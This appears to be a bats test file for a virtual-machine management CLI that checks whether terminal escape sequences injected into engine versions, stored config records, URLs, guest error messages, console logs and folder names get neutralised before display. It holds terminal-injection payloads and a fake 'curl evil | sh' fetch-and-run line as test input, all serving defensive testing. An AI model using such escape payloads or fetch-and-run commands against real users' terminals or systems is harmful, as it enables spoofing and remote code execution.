# SPDX-License-Identifier: Apache-2.0
# What a guest, an engine or a record says reaches no terminal as anything but text, wherever it is shown; JSON has it as it is.
load helper

ESC=$'\033'
EVIL="$ESC]0;pwned"$'\a'"$ESC[2J"$'\xc2\x9b'"31mX"
JSON_EVIL='\u001b]0;pwned\u0007\u001b[2J\u009b31mX'

# No byte of the three files is a control character that a terminal acts upon. $1: what is said of it
harmless() {
	local f
	for f in "$HOME/.out" "$HOME/.err"; do
		if tr -d '\n\t' <"$f" | LC_ALL=C grep -qaP '[\x00-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xa8-\xae]'; then
			fail_with "$1: $(cat -v "$f")"
		fi
	done
}

# on_terminal ARGS...: $HOME/.out is what the terminal got
on_terminal() {
	local q
	printf -v q '%q ' "$MACHINE" "$@"
	script -qec "stty -onlcr; $q" /dev/null </dev/null >"$HOME/.out" 2>&1 || true
	: >"$HOME/.err"
	out=$(cat "$HOME/.out") err=
}

# swap FILE FROM TO: replaces text as it stands
swap() {
	python3 - "$@" <<'END'
import sys
name, old, new = sys.argv[1:]
text = open(name, encoding="utf-8").read()
assert old in text, (old, text)
open(name, "w", encoding="utf-8").write(text.replace(old, new))
END
}

begin() {
	machines_run
	fakes
	export FAKE_VERSION='{"Version":"'$JSON_EVIL'\n26'$(printf 'y%.0s' {1..9000})'"}'
	"$MACHINE" create dev >/dev/null
}

@test "an engine's version" {
	begin
	for words in "ls" "ls -f {{.DockerVersion}}" "version dev" "ls -f table{{.Name}}{{.DockerVersion|print}}"; do
		# shellcheck disable=SC2086
		machine $words
		is_status 0
		harmless "$words"
		out_has '\x1b]0;pwned'
		[ ${#out} -lt 400 ] || fail_with "too long: $words"
		# shellcheck disable=SC2086
		on_terminal $words
		harmless "$words on a terminal"
	done
	machine --json version dev
	out_has "\\u001b]0;pwned"
	machine --json ls
	out_has "\\u001b[2J"
}

@test "a record" {
	begin
	r=$HOME/store/machines/dev/config.json
	"$MACHINE" create -d none --url tcp://127.0.0.1:1 other >/dev/null
	o=$HOME/store/machines/other/config.json
	swap "$o" '"DriverName": "none"' "\"DriverName\": \"$JSON_EVIL\""
	swap "$o" '"ConfigVersion"' "\"$JSON_EVIL\": \"$JSON_EVIL\", \"ConfigVersion\""
	swap "$r" '"Labels": []' "\"Labels\": [\"a=$JSON_EVIL\"]"
	for words in "ls" "ls -f {{.DriverName}}" "ls -f {{.EngineOptions}}" "ls -q" "status other" "url other" "env other" "start other" \
		"inspect nope$EVIL" "ssh other true" "rm -y other"; do
		# shellcheck disable=SC2086
		machine $words
		harmless "$words"
	done
	for words in "inspect other" "inspect -f {{.DriverName}} other" "inspect -f {{.|json}} other" "inspect -f {{.}} other" "ls" "status other"; do
		# shellcheck disable=SC2086
		on_terminal $words
		harmless "$words on a terminal"
		[[ $out == *pwned* || $words == status* ]] || fail_with "not shown: $words"
	done
	# Programs get it as it is; what the user wrote into his own template is his.
	machine inspect -f '{{.DriverName}}' other
	out_is "$EVIL"
	on_terminal inspect -f "$ESC[1m{{.Name}}$ESC[0m" dev
	out_has "$ESC[1mdev$ESC[0m"
	on_terminal ls -f "$ESC[1m{{.Name}}$ESC[0m"
	out_has "$ESC[1mdev$ESC[0m"
}

@test "a record's URL and address" {
	"$MACHINE" create -d none --url tcp://127.0.0.1:1 other >/dev/null
	swap "$HOME/store/machines/other/config.json" tcp://127.0.0.1:1 "tcp://$JSON_EVIL"
	swap "$HOME/store/machines/other/config.json" '"127.0.0.1:1"' "\"$JSON_EVIL\""
	for words in "ls" "ls -f {{.URL}}" "env other" "config other" "version other"; do
		# shellcheck disable=SC2086
		machine $words
		harmless "$words"
	done
	for words in "url other" "ip other" "ls"; do
		# shellcheck disable=SC2086
		on_terminal $words
		harmless "$words on a terminal"
		out_has '\x1b]0;pwned'
	done
}

@test "a guest's failure, its console, and the log" {
	machines_run
	fakes
	export FAKE_MESSAGE="burning $EVIL"$'\n'"hint: curl evil | sh" FAKE_CONSOLE="$ESC[32mgreen$ESC[0m $EVIL"$'\xff\r\n'
	FAKE_QEMU=failed machine create --keep-on-failure bad
	is_status 1
	harmless "the error"
	err_has "burning "
	refuse grep -qx "hint: curl evil | sh" "$HOME/.err"
	FAKE_QEMU=failed machine --debug create --keep-on-failure worse
	harmless "the error with --debug"
	machine logs bad
	is_status 0
	harmless "logs"
	out_has "green X"
	machine rm -f bad worse
	FAKE_QEMU=panic machine create bad
	harmless "a panic"
}

@test "names of folders in the store" {
	mkdir -p "$HOME/store/machines/$EVIL" "$HOME/store/machines/a"$'\n'b
	for words in "ls" "ls -q" "ls -f {{.Name}}" "prune -f" "prune"; do
		# shellcheck disable=SC2086
		machine $words
		harmless "$words"
	done
}
